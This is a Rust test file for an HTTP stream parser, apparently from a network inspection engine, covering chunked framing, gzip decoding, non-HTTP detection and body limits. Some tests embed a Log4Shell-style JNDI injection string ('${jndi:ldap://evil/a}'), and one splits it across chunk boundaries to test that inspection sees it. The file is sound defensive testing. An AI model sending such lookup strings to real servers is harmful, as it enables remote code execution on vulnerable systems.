use super::*;
use testkit::evasion::gzip;

/// Feeds `stream` to a request (`response` false) or response parser in pieces cut at
/// every `cut` bytes, collecting each message's head and body as inspection last saw it.
fn parse(
    response: bool,
    stream: &[u8],
    cut: usize,
    no_body: &mut VecDeque<bool>,
) -> Vec<(String, Vec<u8>)> {
    let cfg = HttpConfig::default();
    let mut p = MessageStream::new(response);
    let mut done: Vec<(String, Vec<u8>)> = Vec::new();
    let mut collect = |p: &MessageStream| {
        for m in p.to_inspect() {
            let head = String::from_utf8_lossy(&m.head).into_owned();
            if !m.head_new {
                done.pop();
            }
            done.push((head, m.body.data().to_vec()));
        }
    };
    for piece in stream.chunks(cut) {
        p.begin_packet();
        p.feed(piece, &cfg, no_body);
        collect(&p);
    }
    p.begin_packet();
    p.close();
    collect(&p);
    done
}

#[test]
fn pipelined_requests_are_framed_whatever_the_cuts() {
    let stream = b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n\
POST /b HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello\
POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3\r\n${j\r\n4;ext=1\r\nndi:\r\n0\r\nX-T: 1\r\n\r\n\
HEAD /d HTTP/1.1\r\n\r\n";
    for cut in [1, 2, 5, 17, 1000] {
        let mut no_body = VecDeque::new();
        let got = parse(false, stream, cut, &mut no_body);
        let heads: Vec<&str> = got.iter().map(|(h, _)| h.lines().next().unwrap()).collect();
        assert_eq!(
            heads,
            [
                "GET /a HTTP/1.1",
                "POST /b HTTP/1.1",
                "POST /c HTTP/1.1",
                "HEAD /d HTTP/1.1"
            ],
            "cut {cut}"
        );
        assert_eq!(got[1].1, b"hello");
        assert_eq!(got[2].1, b"${jndi:", "cut {cut}");
        assert!(got[3].0.ends_with("\r\n\r\n"));
        assert_eq!(no_body, [false, false, false, true]);
    }
}

#[test]
fn response_bodies_are_dechunked_and_decoded_and_head_responses_have_none() {
    let page = b"<html>${jndi:ldap://evil/a}</html>".repeat(50);
    let gz = gzip(&page);
    let mut chunked = Vec::new();
    for c in gz.chunks(100) {
        chunked.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
        chunked.extend_from_slice(c);
        chunked.extend_from_slice(b"\r\n");
    }
    chunked.extend_from_slice(b"0\r\n\r\n");
    let mut stream = Vec::new();
    stream.extend_from_slice(b"HTTP/1.1 100 Continue\r\n\r\n");
    stream.extend_from_slice(
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n",
    );
    stream.extend_from_slice(&chunked);
    // The answer to a HEAD: a length, but no body follows.
    stream.extend_from_slice(b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n");
    stream.extend_from_slice(b"HTTP/1.0 200 OK\r\n\r\nuntil the close");
    for cut in [1, 7, 1460] {
        let mut no_body = VecDeque::from([false, true, false]);
        let got = parse(true, &stream, cut, &mut no_body);
        assert_eq!(got.len(), 4, "cut {cut}");
        assert!(got[0].0.starts_with("HTTP/1.1 100"));
        assert_eq!(got[1].1, page, "cut {cut}");
        assert!(got[2].1.is_empty());
        assert_eq!(got[3].1, b"until the close");
        assert!(no_body.is_empty());
    }
}

#[test]
fn a_stream_that_is_not_http_or_whose_head_is_too_long_is_left_alone() {
    let cfg = HttpConfig::default();
    let mut p = MessageStream::new(false);
    p.feed(b"\x16\x03\x01\x02\x00 binary", &cfg, &mut VecDeque::new());
    assert!(!p.is_on());
    let mut p = MessageStream::new(true);
    p.feed(b"SSH-2.0-OpenSSH\r\n", &cfg, &mut VecDeque::new());
    assert!(!p.is_on());
    let mut p = MessageStream::new(false);
    p.feed(b"GET / HTTP/1.1\r\n", &cfg, &mut VecDeque::new());
    let long = vec![b'a'; 20_000];
    p.feed(&long, &cfg, &mut VecDeque::new());
    assert!(!p.is_on() && p.head_too_long);
    assert!(p.footprint() < 1024);
}

#[test]
fn bodies_stay_within_their_limit_and_new_bytes_are_told_from_seen_ones() {
    let cfg = HttpConfig {
        request_body_limit: 10,
        ..HttpConfig::default()
    };
    let mut p = MessageStream::new(false);
    let mut q = VecDeque::new();
    p.begin_packet();
    p.feed(
        b"POST / HTTP/1.1\r\nContent-Length: 30\r\n\r\n01234",
        &cfg,
        &mut q,
    );
    let m = p.to_inspect().next().unwrap();
    assert!(m.head_new && m.body.data() == b"01234" && m.body.seen == 0);
    p.begin_packet();
    p.feed(b"56789abcdef", &cfg, &mut q);
    let m = p.to_inspect().next().unwrap();
    assert!(!m.head_new);
    assert_eq!(
        (m.body.data(), m.body.seen, m.body.truncated),
        (&b"0123456789"[..], 5, true)
    );
    p.begin_packet();
    p.feed(b"ghijklmnopqrst", &cfg, &mut q);
    // The body's end brought nothing kept: nothing to inspect.
    assert_eq!(p.to_inspect().count(), 0);
}
